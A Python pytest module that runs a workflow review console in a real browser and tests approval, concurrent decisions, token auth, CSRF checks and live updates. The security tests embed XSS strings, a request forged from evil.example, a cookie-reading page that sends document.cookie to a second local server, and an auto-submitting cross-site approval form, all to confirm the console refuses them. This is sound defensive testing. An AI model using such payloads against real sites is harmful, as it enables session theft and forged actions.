"""The review console in a real browser: `converge ui` in its own process, Chromium driving it.

Each test starts `converge ui --port 0` against a store holding a paused vendor-selection run
(the 420,000 commitment waits for a human), reads the tokened URL it prints, and uses the
console as a reviewer would.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, ClassVar
from urllib.parse import parse_qs, quote, urlsplit

import httpx
import pytest

from tests.browser import chromium_or_skip, launch
from tests.cli_runs import cli, run_id_of
from tests.converge.ui_console import Served, serving, start_console, stop_console

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.slow

GATE = "gate:6:vendor.commitments/acme"
KEY = "ui-test-signing-key"
ROOT = Path(__file__).resolve().parents[2]
SHOTS = ROOT / "test-artifacts"  # fresh screenshots; docs/img holds the reviewed ones
CHAIN = ROOT / "tests" / "converge" / "durable_formation.py"

HOSTILE = textwrap.dedent(
    '''
    """A formation whose held proposal carries hostile text."""
    from converge import AgentEffect, Context, ContextKey, Formation, HitlPolicy, ProposedFact
    from converge_suggestors import SeedSuggestor

    EVIL = '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'

    class Evil:
        name = "evil"
        dependencies = (ContextKey.SEEDS,)

        def accepts(self, ctx: Context, /) -> bool:
            return not ctx.has(ContextKey.STRATEGIES)

        async def execute(self, ctx: Context, /) -> AgentEffect:
            return AgentEffect.with_proposals([ProposedFact(
                key=ContextKey.STRATEGIES, id="evil", provenance="evil",
                content=EVIL + " \\x1b[31mred\\u202eevil",
                payload={EVIL: EVIL + "\\u202e", "ok": 1},
                evidence=("seeds/start",),
            )])

    formation = Formation(
        name="hostile",
        suggestors=(SeedSuggestor("start", "Begin " + EVIL), Evil()),
        hitl=HitlPolicy(gated_keys=frozenset({ContextKey.STRATEGIES})),
    )
    '''
)


@dataclass
class Console:
    served: Served
    store: str
    run_id: str

    @property
    def base(self) -> str:
        return self.served.base

    @property
    def token(self) -> str:
        return self.served.token

    @property
    def signed_in(self) -> str:
        """The printed one-time sign-in link (it works once)."""
        return self.served.link

    def gate(self, gate: str = GATE) -> str:
        return f"{self.base}/runs/{quote(self.run_id, safe='')}/gates/{quote(gate, safe='')}"


def sign_in_with_token(page: Page, base: str, token: str) -> None:
    """Sign a browser page in through the console's sign-in form."""
    page.goto(f"{base}/sign-in")
    page.get_by_label("Your reviewer token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{base}/")


@pytest.fixture
def console(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Console]:
    """A console on a paused demo run, both signed with a key (the record verifies)."""
    chromium_or_skip("the review console tests")
    monkeypatch.setenv("CONVERGE_SIGNING_KEY", KEY)
    store = str(tmp_path / "runs.db")
    code, out = cli("--store", store, "demo")
    assert code == 6, out
    env = {"CONVERGE_SIGNING_KEY": KEY}
    with serving(store, "--reviewer", "ana", "--poll", "0.1", env=env) as served:
        yield Console(served, store, run_id_of(out))


def test_a_reviewer_sees_the_gate_with_its_payload_approves_and_watches_it_converge(
    console: Console,
) -> None:
    from playwright.sync_api import expect, sync_playwright

    SHOTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = launch(playwright)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(console.signed_in)
        assert "token" not in page.url  # the token moved into a cookie
        row = page.locator(f'tr[data-run="{console.run_id}"]')
        expect(row.locator("[data-status]")).to_have_text("paused")
        expect(row.locator("[data-pending]")).to_have_text("1")
        page.screenshot(path=str(SHOTS / "ui-runs.png"))
        row.locator("a").click()
        expect(page.locator("[data-waiting]")).to_contain_text("1 proposal(s) wait")
        page.screenshot(path=str(SHOTS / "ui-run.png"), full_page=False)
        page.locator("[data-gate-link]").click()
        payload = page.locator('table[data-payload="vendor.commitments/acme"]')
        expect(payload).to_contain_text("spend")
        expect(payload).to_contain_text("420000")
        expect(page.locator(".chain")).to_contain_text("vendor.recommendations/acme")
        expect(page.locator(".chain")).to_contain_text("vendor.bids/")
        expect(page.locator("[data-signature]")).to_have_attribute("data-signature", "verified")
        expect(page.locator("[data-formation-trust]")).to_contain_text("its signature verified")
        expect(page.locator("[data-rule]")).to_contain_text("held because")
        expect(page.locator("[data-next]")).to_contain_text("Approve: the proposal becomes")
        expect(page.locator("[data-next]")).to_contain_text("Reject: the proposal is refused")
        page.screenshot(path=str(SHOTS / "ui-gate.png"), full_page=True)
        page.get_by_role("button", name="Approve").click()
        expect(page.locator("body")).to_have_attribute(
            "data-stop-reason", "converged", timeout=15_000
        )
        expect(page.locator("tr[data-decision]")).to_contain_text("ana")
        assert not errors
        browser.close()
    code, out = cli("--store", console.store, "show", console.run_id)
    assert code == 0
    assert "approved by ana" in out


def test_two_reviewers_deciding_one_gate_one_wins_the_other_sees_who(
    console: Console, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        first, second = browser.new_context(), browser.new_context()
        pages = [context.new_page() for context in (first, second)]
        pages[0].goto(console.signed_in)  # the one-time link signs one browser in
        sign_in_with_token(pages[1], console.base, console.token)  # the form, the other
        for page in pages:
            page.goto(console.gate())
            expect(page.get_by_role("button", name="Approve")).to_be_visible()
        pages[1].get_by_label("reason").fill("too expensive")
        pages[0].get_by_role("button", name="Approve").click()
        expect(pages[0].locator("body")).to_have_attribute("data-stop-reason", "converged")
        pages[1].get_by_role("button", name="Reject").click()
        expect(pages[1].locator("h1")).to_have_text("Already decided")
        expect(pages[1].locator("[data-message]")).to_contain_text("already decided by ana")
        browser.close()
    _, out = cli("--store", console.store, "show", console.run_id)
    assert "approved by ana" in out
    assert "too expensive" not in out


def test_without_the_token_every_page_is_refused(console: Console) -> None:
    run = f"{console.base}/runs/{console.run_id}"
    for url in (
        console.base + "/",
        run,
        run + "/events",
        console.gate(),
        console.base + "/favicon.ico",
        console.base + "/?token=wrong",
    ):
        response = httpx.get(url, follow_redirects=False)
        assert response.status_code == 401, url
        assert 'action="/sign-in"' in response.text  # the sign-in form, nothing else
        assert "set-cookie" not in response.headers
    response = httpx.post(console.gate(), data={"gate:" + GATE: "approve"})
    assert response.status_code == 401
    assert "Sign-in needed" in response.text
    with httpx.Client(headers={"authorization": "Bearer not-the-token"}) as client:
        assert client.get(console.base + "/").status_code == 401
    with httpx.Client(headers={"authorization": f"Bearer {console.token}"}) as client:
        assert client.get(console.base + "/").status_code == 200


def test_a_post_without_the_csrf_token_decides_nothing(console: Console) -> None:
    with httpx.Client(headers={"authorization": f"Bearer {console.token}"}) as client:
        page = client.get(console.gate())
        assert page.status_code == 200
        for form in (
            {"gate:" + GATE: "approve", "version": "1"},
            {"gate:" + GATE: "approve", "csrf": "0" * 64},
        ):
            response = client.post(console.gate(), data=form)
            assert response.status_code == 403
            assert "CSRF" in response.text
        csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
        forged = client.post(
            console.gate(),
            data={"gate:" + GATE: "approve", "csrf": csrf},
            headers={"origin": "http://evil.example"},
        )
        assert forged.status_code == 403
    code, _ = cli("--store", console.store, "review", console.run_id)
    assert code == 6  # still waiting: nothing was decided


def test_hostile_text_in_facts_renders_inert(tmp_path: Path) -> None:
    chromium_or_skip("the review console tests")
    from playwright.sync_api import expect, sync_playwright

    formation = tmp_path / "hostile.py"
    formation.write_text(HOSTILE, encoding="utf-8")
    store = str(tmp_path / "runs.db")
    code, out = cli("--store", store, "run", str(formation))
    assert code == 6, out
    run_id = run_id_of(out)
    served = start_console(store)
    base = served.base
    try:
        with sync_playwright() as playwright:
            browser = launch(playwright)
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda dialog: dialogs.append(dialog.message))
            page.goto(served.link)
            for path in ("", f"/gates/{quote('gate:2:strategies/evil', safe='')}"):
                page.goto(f"{base}/runs/{run_id}{path}")
                page.wait_for_load_state("load")
                assert page.evaluate("window.__pwned") is None
                assert page.locator("main script, main img").count() == 0
                expect(page.locator("main")).to_contain_text("<script>window.__pwned = 1</script>")
                expect(page.locator("main")).to_contain_text("\\x1b[31mred\\u202eevil")
            assert not dialogs
            browser.close()
    finally:
        stop_console(served)


def test_a_running_run_page_follows_each_saved_cycle_without_a_reload(tmp_path: Path) -> None:
    chromium_or_skip("the review console tests")
    from playwright.sync_api import sync_playwright

    store = str(tmp_path / "runs.db")
    env = {**os.environ, "CONVERGE_TEST_SLEEP": "0.4", "CONVERGE_TEST_STEPS": "12"}
    runner = subprocess.Popen(
        [sys.executable, "-m", "converge.cli", "--store", store, "run", str(CHAIN)],
        stdout=subprocess.DEVNULL,
        env=env,
    )
    served = start_console(store, "--poll", "0.05")
    base = served.base
    try:
        with httpx.Client(headers={"authorization": f"Bearer {served.token}"}) as client:
            deadline = time.monotonic() + 20
            while 'data-status="running"' not in (listing := client.get(base + "/").text):
                assert time.monotonic() < deadline, "the run never showed as running"
                time.sleep(0.05)
        run_id = listing.split('data-run="')[1].split('"')[0]
        with sync_playwright() as playwright:
            browser = launch(playwright)
            page = browser.new_page()
            page.goto(served.link)
            page.goto(f"{base}/runs/{run_id}")
            assert page.locator("body").get_attribute("data-status") == "running"
            said = page.locator('[data-summary="stop"]').inner_text()
            assert said.startswith("The run is running"), said
            assert "stopped running" not in page.locator("main").inner_text()
            versions = {page.locator("body").get_attribute("data-version")}
            deadline = time.monotonic() + 30
            while page.locator("body").get_attribute("data-status") != "finished":
                assert time.monotonic() < deadline, "the page did not follow the run"
                page.wait_for_timeout(50)
                with contextlib.suppress(Exception):  # the page may be reloading
                    versions.add(page.locator("body").get_attribute("data-version"))
            assert page.locator("body").get_attribute("data-stop-reason") == "converged"
            assert len(versions - {None}) >= 3  # it showed several cycles as they were saved
            browser.close()
    finally:
        runner.wait(timeout=30)
        stop_console(served)
    assert runner.returncode == 0


# --- a second site on 127.0.0.1 -----------------------------------------------------------------


class Elsewhere(BaseHTTPRequestHandler):
    """Another site on 127.0.0.1 (another port) that the reviewer's browser visits.

    It logs the cookies the browser sends it (cookies are not port-scoped: the console's come
    along) and what its pages' scripts could read, and serves a page that posts a decision
    to the console from here.
    """

    cookies: ClassVar[list[str]] = []
    said: ClassVar[list[str]] = []
    post_page: ClassVar[str] = ""

    def do_GET(self) -> None:
        self.cookies.append(self.headers.get("cookie", ""))
        url = urlsplit(self.path)
        if url.path == "/log":
            self.said.extend(parse_qs(url.query).get("said", []))
            self._send("ok")
        elif url.path == "/steal":
            self._send(self.steal_page)
        elif url.path == "/post":
            self._send(self.post_page)
        else:
            self._send("elsewhere")

    steal_page: ClassVar[str] = ""

    def _send(self, body: str) -> None:
        data = body.encode()
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        return


def test_console_a_second_site_on_another_port_gets_only_a_session_and_cannot_post(
    console: Console,
) -> None:
    """The attack of a page on the same machine: read the cookie, reuse it, post a decision."""
    from playwright.sync_api import expect, sync_playwright

    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    there = f"http://127.0.0.1:{server.server_address[1]}"
    Elsewhere.cookies, Elsewhere.said = [], []
    Elsewhere.steal_page = f"""<!DOCTYPE html><body><script>
      const log = (said) => fetch("/log?said=" + encodeURIComponent(said));
      log("document.cookie=" + document.cookie);
      fetch("{console.base}/", {{credentials: "include"}})
        .then((r) => r.text()).then((t) => log("read " + t.length))
        .catch((e) => log("fetch refused"));
    </script></body>"""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    cookie = f"converge-console-{console.served.port}"
    try:
        with sync_playwright() as playwright:
            browser = launch(playwright)
            page = browser.new_page()
            page.goto(console.signed_in)
            page.goto(f"{there}/steal")
            deadline = time.monotonic() + 10
            while len(Elsewhere.said) < 2:
                assert time.monotonic() < deadline, Elsewhere.said
                time.sleep(0.05)
            assert sorted(Elsewhere.said) == ["document.cookie=", "fetch refused"]
            # What the other site's server received: the console's cookie, a session id only.
            sent = [c for c in Elsewhere.cookies if cookie in c]
            assert sent, Elsewhere.cookies
            session = sent[0].split(f"{cookie}=")[1].split(";")[0]
            assert console.token not in " ".join(Elsewhere.cookies)
            assert session != console.token
            # Reused from elsewhere it opens this session, and it gives the CSRF token ...
            stolen = httpx.get(console.gate(), cookies={cookie: session})
            assert stolen.status_code == 200
            csrf = stolen.text.split('name="csrf" value="')[1].split('"')[0]
            version = stolen.text.split('name="version" value="')[1].split('"')[0]
            # ... yet a decision posted from the other site's page, with that token, is refused.
            Elsewhere.post_page = (
                f'<!DOCTYPE html><body><form method="post" action="{console.gate()}">'
                f'<input name="csrf" value="{csrf}"><input name="version" value="{version}">'
                f'<input name="gate:{GATE}" value="approve"></form>'
                "<script>document.forms[0].submit()</script></body>"
            )
            page.goto(f"{there}/post")
            expect(page.locator("h1")).to_have_text("Refused")
            expect(page.locator("[data-message]")).to_contain_text(f"came from {there}")
            # Signing out ends the session: the id the other site kept opens nothing more.
            page.goto(console.base + "/")
            page.get_by_role("button", name="Sign out").click()
            expect(page.locator("h1")).to_have_text("Sign in")
            assert httpx.get(console.base + "/", cookies={cookie: session}).status_code == 401
            browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert cli("--store", console.store, "review", console.run_id)[0] == 6  # nothing decided
